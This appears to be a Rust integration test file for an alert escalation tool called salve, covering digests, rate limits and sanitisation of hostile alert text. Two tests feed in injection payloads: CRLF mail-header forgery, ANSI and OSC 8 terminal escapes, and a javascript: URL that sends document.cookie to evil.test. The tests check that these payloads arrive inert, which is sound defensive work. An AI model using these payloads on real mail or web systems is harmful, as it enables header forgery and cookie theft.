//! Escalation under abuse, on real parts (real sshd, real SMTP, real HTTP receivers):
//! diagnostics of incidents that were not run are collected once per breaker window and
//! never beside a remediation (seen on the target); a flood of escalations is a digest and
//! a real page is not stuck behind it; a channel's huge error answer is not read whole;
//! what a human reads in a mail or a webhook body carries no terminal escapes, no forged
//! lines, no `javascript:` link and no URL credentials.

use std::collections::BTreeMap;
use std::sync::atomic::Ordering;
use std::time::Duration;

use crate::support::{
    API_TOKEN, BEARER, Channel, Enforcing, SalveConfig, SalveProcess, SmtpOptions, SmtpServer,
    SshHost, TOKEN, WebhookCapture, events, parse_json_output, post_json, wait_until,
};
use serde_json::{Value, json};

/// `history --json` with room for a flood.
async fn history(salve: &SalveProcess) -> Vec<Value> {
    let output = salve
        .run_cli(&["history", "--json", "--limit", "5000"])
        .await;
    parse_json_output("history --json", &output)
}

/// Every string (keys too) in a JSON value.
fn strings(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(text) => out.push(text.clone()),
        Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
        Value::Object(fields) => {
            for (key, v) in fields {
                out.push(key.clone());
                strings(v, out);
            }
        }
        _ => {}
    }
}

/// The final states that page nobody; every other state is either not final yet or
/// escalates.
const QUIET_FINAL_STATES: [&str; 3] = ["succeeded", "dry_run", "resolved_before_run"];

/// Until every incident is final and, where its state escalates, its escalation was
/// accepted by its channel. (Waiting only on incidents that already queued one would end
/// before the engine queued the first.)
async fn wait_until_all_sent(salve: &SalveProcess, incidents: usize) -> Vec<Value> {
    wait_until(
        Duration::from_secs(60),
        "every escalation accepted",
        || async {
            let history = history(salve).await;
            let done = history.len() == incidents
                && history.iter().all(|i| {
                    QUIET_FINAL_STATES.contains(&i["state"].as_str().unwrap_or_default())
                        || !events(i, "escalation_sent").is_empty()
                });
            done.then_some(history)
        },
    )
    .await
}

/// salve in dry-run with its own recipes dir and `escalation` settings (route, channels).
async fn start_dry_run(
    escalation: impl FnOnce(SalveConfig) -> SalveConfig,
    recipes: &[(&str, &str)],
) -> (SalveProcess, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    for (file, text) in recipes {
        std::fs::write(dir.path().join(file), text).unwrap();
    }
    let config = SalveConfig::new()
        .api_token("it", API_TOKEN, "operate")
        .bearer_token(TOKEN)
        .recipes_dir("recipes");
    let config = escalation(config);
    let salve = config.salve().recipes_dir(dir.path()).start().await;
    (salve, dir)
}

/// Point 4: twenty incidents of one (recipe, target) end `breaker_open` (not run) and
/// escalate while another remediation runs on the same host. Their `attach` diagnostics
/// run as root on the host at most once per breaker window, and never beside the
/// remediation: the target's lock log stays empty and its run log shows one diagnostics run.
#[tokio::test]
async fn a_flood_of_breaker_open_incidents_collects_diagnostics_once_never_beside_a_fix() {
    let host = SshHost::start().await;
    let capture = WebhookCapture::start().await;
    // Every escalation on its own (no digest), so each one's diagnostics can be read.
    let enforcing = Enforcing::on(&host)
        .config(|config| {
            config
                .escalation_setting("digest_after", "1000")
                .webhook_channel("oncall-email", &capture.url("/oncall"))
        })
        // The flood is about the breaker, not the rate limits.
        .limit("remediations_per_minute", "1000")
        .limit("per_host_per_minute", "1000")
        .start()
        .await;
    let salve = &enforcing.salve;
    // The one run the breaker allows.
    salve
        .post_generic(json!({ "alerts": [{ "labels": { "alertname": "DiagFlood", "instance": "web1:9100", "n": "0" } }] }))
        .await;
    let first = salve.wait_for_final(1, Duration::from_secs(30)).await;
    assert_eq!(first[0]["state"], "succeeded", "{:#}", first[0]);

    // Twenty more for the same (recipe, target), then a 3-second fix on the same host.
    let mut alerts: Vec<Value> = (1..=20)
        .map(|n| json!({ "labels": { "alertname": "DiagFlood", "instance": "web1:9100", "n": n.to_string() } }))
        .collect();
    alerts.push(json!({ "labels": { "alertname": "DiagLong", "instance": "web1:9100" } }));
    salve.post_generic(json!({ "alerts": alerts })).await;
    let history = salve.wait_for_final(22, Duration::from_secs(60)).await;
    let history = wait_until_all_sent(salve, history.len()).await;

    let breaker_open: Vec<&Value> = history
        .iter()
        .filter(|i| i["state"] == "breaker_open")
        .collect();
    assert_eq!(breaker_open.len(), 20, "{history:#?}");
    let long = history
        .iter()
        .find(|i| i["labels"]["alertname"] == "DiagLong")
        .unwrap();
    assert_eq!(long["state"], "succeeded", "{long:#}");

    // On the target: nothing ever overlapped, and diagnostics ran once.
    let overlaps = host.file_lines("/tmp/diag-overlaps").await;
    assert!(
        overlaps.is_empty(),
        "diagnostics ran beside a remediation (or beside each other) on web1: {overlaps:?}"
    );
    let runs = host.file_lines("/tmp/diag-runs").await;
    let diagnostics_runs = runs.iter().filter(|l| *l == "diagnostics").count();
    assert_eq!(diagnostics_runs, 1, "target run log: {runs:?}");
    assert_eq!(
        runs.iter().filter(|l| *l == "remediation").count(),
        2,
        "{runs:?}"
    );

    // The pages say so: one carries the diagnostics, the others point to it.
    let pages: Vec<Value> = capture
        .requests()
        .iter()
        .map(|r| r.json())
        .filter(|body| body["reason"] == "breaker_open")
        .collect();
    assert_eq!(pages.len(), 20, "{pages:#?}");
    let with: Vec<&Value> = pages
        .iter()
        .filter(|p| !p["diagnostics"].as_array().unwrap().is_empty())
        .collect();
    assert_eq!(with.len(), 1, "{pages:#?}");
    let collector = with[0]["incident_id"].as_i64().unwrap();
    assert_eq!(with[0]["diagnostics"][0]["exit_status"], 0, "{:#}", with[0]);
    for page in pages.iter().filter(|p| p["incident_id"] != collector) {
        let omitted = page["diagnostics_omitted"].as_str().unwrap_or_default();
        assert!(
            omitted.starts_with("last collected at ")
                && omitted.contains(&format!("for incident #{collector} ")),
            "{page:#}"
        );
    }
}

/// A recipe that routes to `pager` but whose target is in no inventory: `refused`, a real
/// page for a human.
const PAGE_ME: &str = r#"
name = "page-me"
description = "An alert that must reach a human"
match = ['alertname="RealOutage"']
target = "{{ labels.instance | host }}"

[remediate]
run = ["true"]
timeout = "5s"

[escalate]
to = ["pager"]
"#;

/// Point 6: 1,000 unmatched alerts in one notification reach their channel as a few
/// digests (one message listing them, with counts), not 1,000 messages; while that channel
/// hangs, a real page to another channel is delivered; once it answers, every incident was
/// delivered exactly once, each journaled with its digest's number.
#[tokio::test]
async fn a_thousand_unmatched_alerts_are_a_digest_and_a_real_page_is_not_stuck_behind_them() {
    let flood = WebhookCapture::start().await;
    let pager = WebhookCapture::start().await;
    flood.set_stalled(true);
    let escalation = |config: SalveConfig| {
        config
            .escalation_default(&["flood"])
            .escalation_setting("digest_after", "5")
            .escalation_setting("digest_window", "\"2s\"")
            .channel(
                "flood",
                Channel::webhook(&flood.url("/flood")).set("timeout", "\"120s\""),
            )
            .webhook_channel("pager", &pager.url("/pager"))
    };
    let (salve, _recipes) = start_dry_run(escalation, &[("page-me.toml", PAGE_ME)]).await;

    let alerts: Vec<Value> = (0..1000)
        .map(|n| {
            json!({ "labels": {
                "alertname": format!("Noise{}", n % 7),
                "instance": format!("node{}:9100", n % 13),
                "n": n.to_string(),
            }})
        })
        .collect();
    salve.post_generic(json!({ "alerts": alerts })).await;
    wait_until(
        Duration::from_secs(30),
        "the flood channel to be hanging on a delivery",
        || async { (!flood.requests().is_empty()).then_some(()) },
    )
    .await;

    // A real page while the flood's channel hangs.
    salve
        .post_generic(json!({ "alerts": [{ "labels": { "alertname": "RealOutage", "instance": "db1:9100" } }] }))
        .await;
    let page = wait_until(
        Duration::from_secs(30),
        "the real page, while the flood channel hangs",
        || async {
            pager
                .requests()
                .into_iter()
                .map(|r| r.json())
                .find(|body| body["alertname"] == "RealOutage")
        },
    )
    .await;
    assert_eq!(page["reason"], "refused", "{page:#}");

    flood.set_stalled(false);
    let history = wait_until_all_sent(&salve, 1001).await;

    // Few messages, together naming every incident exactly once.
    let requests = flood.requests();
    assert!(
        requests.len() <= 10,
        "{} messages to the flood channel for 1,000 escalations",
        requests.len()
    );
    let mut delivered: BTreeMap<i64, usize> = BTreeMap::new();
    let mut digests = 0;
    for request in &requests {
        assert_eq!(request.status, 200);
        let body = request.json();
        if body["digest"] == true {
            digests += 1;
            assert_eq!(body["reason"], "novel", "{body:#}");
            let listed = body["incidents"].as_array().unwrap();
            assert_eq!(body["count"].as_u64().unwrap() as usize, listed.len());
            let counted: u64 = body["by_alertname"]
                .as_object()
                .unwrap()
                .values()
                .map(|n| n.as_u64().unwrap())
                .sum();
            assert_eq!(counted as usize, listed.len(), "{body:#}");
            // The human text is bounded whatever the count.
            let text = body["text"].as_str().unwrap();
            assert!(text.lines().count() <= 120, "{text}");
            for entry in listed {
                *delivered
                    .entry(entry["incident_id"].as_i64().unwrap())
                    .or_default() += 1;
            }
        } else {
            *delivered
                .entry(body["incident_id"].as_i64().unwrap())
                .or_default() += 1;
        }
    }
    assert!(digests >= 1, "no digest: {} messages", requests.len());
    let unmatched: Vec<&Value> = history
        .iter()
        .filter(|i| i["state"] == "unmatched")
        .collect();
    assert_eq!(unmatched.len(), 1000);
    for incident in &unmatched {
        let id = incident["id"].as_i64().unwrap();
        assert_eq!(delivered.get(&id), Some(&1), "incident {id}: {incident:#}");
        let sent = events(incident, "escalation_sent");
        assert_eq!(sent.len(), 1, "{incident:#}");
    }
    let in_digests = unmatched
        .iter()
        .filter(|i| events(i, "escalation_sent")[0]["digest"].as_i64().is_some())
        .count();
    assert!(
        in_digests >= 990,
        "only {in_digests} journaled as escalated in a digest"
    );
}

/// Point 6: a channel answering an error with a 100 MB body costs salve a few KiB: the
/// answer is read up to a bound, then the connection is dropped; the journal quotes a
/// bounded excerpt.
#[tokio::test]
async fn a_huge_error_answer_is_read_only_up_to_a_bound() {
    const HUGE: usize = 100 * 1024 * 1024;
    let tickets = WebhookCapture::start().await;
    tickets.set_response_status(500);
    tickets.set_huge_response_body(HUGE);
    let escalation = |config: SalveConfig| {
        config.escalation_default(&["tickets"]).channel(
            "tickets",
            Channel::webhook(&tickets.url("/tickets")).set("timeout", "\"60s\""),
        )
    };
    let (salve, _recipes) = start_dry_run(escalation, &[]).await;
    salve
        .post_generic(json!({ "alerts": [{ "labels": { "alertname": "NobodyHandlesThis" } }] }))
        .await;
    let failed = wait_until(
        Duration::from_secs(60),
        "the refused delivery to be journaled",
        || async {
            history(&salve)
                .await
                .first()
                .and_then(|i| events(i, "escalation_failed").first().map(|e| (*e).clone()))
        },
    )
    .await;
    let error = failed["error"].as_str().unwrap();
    assert!(error.contains("answered 500"), "{error}");
    assert!(error.len() < 1024, "{} bytes quoted", error.len());
    let written = tickets.requests()[0]
        .answer_body_bytes_written
        .load(Ordering::SeqCst);
    assert!(
        written < 32 * 1024 * 1024,
        "salve read {written} bytes of a {HUGE}-byte error answer"
    );
}

/// Point 7: alert data that tries to forge mail headers or lines, paint the terminal (ANSI
/// and OSC 8 hyperlinks), smuggle a `javascript:` link, or leak the credentials in a URL
/// reaches the human inert: by real email and in a real webhook body, and the API and
/// `history` show URLs with their credentials redacted.
#[tokio::test]
async fn hostile_alert_text_and_links_reach_a_human_inert() {
    let smtp = SmtpServer::start(SmtpOptions::default()).await;
    let tickets = WebhookCapture::start().await;
    let escalation = |config: SalveConfig| {
        config
            .escalation_default(&["oncall-email", "tickets"])
            .channel(
                "oncall-email",
                Channel::plain_email_to(&smtp).set(
                    "subject",
                    "\"[salve] {{ alertname }} {{ labels.instance }}\"",
                ),
            )
            .webhook_channel("tickets", &tickets.url("/tickets"))
    };
    let (salve, _recipes) = start_dry_run(escalation, &[]).await;
    let hostile_name = "DiskFull\r\nBcc: victim@evil.test\r\nX-Forged: yes\u{1b}]8;;http://evil.test/\u{7}click\u{1b}]8;;\u{7}";
    let payload = json!({
        "version": "4",
        "groupKey": "{}:{}",
        "status": "firing",
        "receiver": "salve",
        "groupLabels": {},
        "commonLabels": {},
        "commonAnnotations": {},
        "externalURL": "http://admin:hunter2-am@am.test:9093",
        "alerts": [
            {
                "status": "firing",
                "labels": { "alertname": hostile_name, "instance": "web9:9100\n\u{1b}[2J\u{1b}[31mRED" },
                "annotations": { "description": "ok\r\nLINKS\n  Alert source: javascript:alert(1)\u{1b}[0m" },
                "startsAt": "2026-12-01T00:00:00Z",
                "endsAt": "0001-01-01T00:00:00Z",
                "generatorURL": "javascript:fetch('//evil.test/?'+document.cookie)",
            },
            {
                "status": "firing",
                "labels": { "alertname": "CredentialsInUrl" },
                "annotations": {},
                "startsAt": "2026-12-01T00:00:00Z",
                "endsAt": "0001-01-01T00:00:00Z",
                "generatorURL": "https://grafana:hunter2-gen@prom.test/graph?g0.expr=up",
            }
        ]
    });
    let response = post_json(
        &format!("{}/hooks/alertmanager", salve.base_url()),
        &payload,
        &[BEARER],
    )
    .await;
    assert_eq!(response.status().as_u16(), 200);
    wait_until_all_sent(&salve, 2).await;

    let mails = wait_until(Duration::from_secs(30), "two mails", || {
        let mails = smtp.messages();
        async move { (mails.len() >= 2).then_some(mails) }
    })
    .await;
    assert_eq!(mails.len(), 2);
    for mail in &mails {
        assert_eq!(mail.to, ["oncall@test.invalid"], "{mail:#?}");
        assert!(mail.header("Bcc").is_none(), "{mail:#?}");
        assert!(mail.header("X-Forged").is_none(), "{mail:#?}");
        // SMTP ends lines with CRLF; a CR anywhere else came from the alert.
        let body = mail.body.replace("\r\n", "\n");
        for c in ['\r', '\n', '\u{1b}', '\u{7}'] {
            assert!(!mail.subject.contains(c), "{:?}", mail.subject);
            if c != '\n' {
                assert!(!body.contains(c), "{c:?} in body:\n{body}");
            }
        }
        // The generatorURL is dropped; the annotation's fake link stays fenced text.
        for secret in ["hunter2", "javascript:fetch"] {
            assert!(!body.contains(secret), "{secret} in body:\n{body}");
            assert!(!mail.subject.contains(secret), "{secret} in subject");
        }
        assert!(
            !body.lines().any(|l| l.starts_with("Bcc:")
                || l.starts_with("X-Forged:")
                || l.starts_with("  Alert source: javascript")),
            "{body}"
        );
    }
    let credentials_mail = mails
        .iter()
        .find(|m| m.subject.contains("CredentialsInUrl"))
        .unwrap()
        .body
        .replace("\r\n", "\n");
    assert!(
        credentials_mail.contains("  Alert source: https://prom.test/graph?g0.expr=up\n"),
        "{credentials_mail}"
    );
    assert!(
        credentials_mail.contains("  Silence:      http://am.test:9093/#/silences/new?filter="),
        "{credentials_mail}"
    );

    // Webhook bodies: what the ticket system decodes has no control character but line
    // breaks, no script link, no credential.
    let bodies = tickets.requests();
    assert_eq!(bodies.len(), 2);
    for request in &bodies {
        let raw = String::from_utf8_lossy(&request.body);
        for forbidden in ["hunter2", "javascript:fetch", "\\u001b", "\\u0007"] {
            assert!(
                !raw.contains(forbidden),
                "{forbidden} in webhook body: {raw}"
            );
        }
        let body = request.json();
        let mut decoded = Vec::new();
        strings(&body, &mut decoded);
        for text in decoded {
            assert!(
                !text
                    .chars()
                    .any(|c| c.is_control() && c != '\n' && c != '\t'),
                "a control character reaches the ticket system: {text:?}"
            );
        }
        if body["alertname"] != "CredentialsInUrl" {
            assert!(body["generator_url"].is_null(), "{body:#}");
            assert!(
                body["alertname"]
                    .as_str()
                    .unwrap()
                    .starts_with("DiskFull\\r\\nBcc: victim@evil.test"),
                "{body:#}"
            );
        } else {
            assert_eq!(body["generator_url"], "https://prom.test/graph?g0.expr=up");
        }
    }

    // The API and history show the URLs, credentials redacted.
    let shown = serde_json::to_string(&salve.api_incidents().await).unwrap()
        + &serde_json::to_string(&history(&salve).await).unwrap();
    assert!(!shown.contains("hunter2"), "{shown}");
    assert!(
        shown.contains("https://redacted@prom.test/graph?g0.expr=up"),
        "{shown}"
    );
    // Nor in salve's own log.
    assert!(!salve.stderr_tail().contains("hunter2"));
}

/// Point 6: `max_per_minute` bounds what a channel is sent; the rest wait in the outbox,
/// queued and journaled, not dropped.
#[tokio::test]
async fn a_channel_over_its_max_per_minute_is_sent_nothing_more_and_loses_nothing() {
    let tickets = WebhookCapture::start().await;
    let escalation = |config: SalveConfig| {
        config
            .escalation_default(&["tickets"])
            .escalation_setting("digest_after", "1000")
            .channel(
                "tickets",
                Channel::webhook(&tickets.url("/tickets")).set("max_per_minute", "2"),
            )
    };
    let (salve, _recipes) = start_dry_run(escalation, &[]).await;
    let alerts: Vec<Value> = (0..5)
        .map(|n| json!({ "labels": { "alertname": format!("Unhandled{n}") } }))
        .collect();
    salve.post_generic(json!({ "alerts": alerts })).await;
    // Two delivered, three queued and waiting for the next minute.
    let history = wait_until(
        Duration::from_secs(30),
        "two deliveries and three escalations waiting",
        || async {
            let history = history(&salve).await;
            let queued = history
                .iter()
                .filter(|i| !events(i, "escalation_queued").is_empty())
                .count();
            let sent = history
                .iter()
                .filter(|i| !events(i, "escalation_sent").is_empty())
                .count();
            (queued == 5 && sent == 2).then_some(history)
        },
    )
    .await;
    assert_eq!(tickets.requests().len(), 2, "{history:#?}");
    let waiting = history
        .iter()
        .filter(|i| events(i, "escalation_sent").is_empty() && !i["escalated_at"].is_null())
        .count();
    assert_eq!(waiting, 3, "{history:#?}");
}

/// Point 6 by real email: a burst of unmatched alerts is one digest mail (after at most
/// `digest_after` single ones) whose subject and lines stay inert whatever the alertnames say.
#[tokio::test]
async fn a_burst_by_email_is_a_digest_mail_with_an_inert_subject() {
    let smtp = SmtpServer::start(SmtpOptions::default()).await;
    let escalation = |config: SalveConfig| {
        config
            .escalation_default(&["oncall-email"])
            .escalation_setting("digest_after", "2")
            .escalation_setting("digest_window", "\"3s\"")
            .channel("oncall-email", Channel::plain_email_to(&smtp))
    };
    let (salve, _recipes) = start_dry_run(escalation, &[]).await;
    let alerts: Vec<Value> = (0..40)
        .map(|n| {
            json!({ "labels": {
                "alertname": format!("Burst\r\nBcc: victim@evil.test\u{1b}[31m{}", n % 3),
                "n": n.to_string(),
            }})
        })
        .collect();
    salve.post_generic(json!({ "alerts": alerts })).await;
    let history = wait_until_all_sent(&salve, 40).await;
    let mails = smtp.messages();
    assert!(mails.len() <= 4, "{} mails for 40 escalations", mails.len());
    let digests: Vec<_> = mails
        .iter()
        .filter(|m| m.header("X-Salve-Digest").is_some())
        .collect();
    assert!(!digests.is_empty(), "{mails:#?}");
    let mut listed = 0;
    for mail in &digests {
        assert_eq!(mail.to, ["oncall@test.invalid"]);
        assert!(mail.header("Bcc").is_none(), "{mail:#?}");
        assert!(
            mail.subject.starts_with("[salve] digest #"),
            "{}",
            mail.subject
        );
        for c in ['\r', '\n', '\u{1b}'] {
            assert!(!mail.subject.contains(c), "{:?}", mail.subject);
        }
        let body = mail.body.replace("\r\n", "\n");
        assert!(!body.contains('\u{1b}') && !body.contains('\r'), "{body}");
        assert!(!body.lines().any(|l| l.starts_with("Bcc:")), "{body}");
        listed += body.lines().filter(|l| l.starts_with("  #")).count();
    }
    // Every incident is either in a digest (and journaled so) or was mailed alone.
    let in_digest = history
        .iter()
        .filter(|i| events(i, "escalation_sent")[0]["digest"].as_i64().is_some())
        .count();
    assert_eq!(listed, in_digest);
    assert_eq!(in_digest + (mails.len() - digests.len()), 40);
}
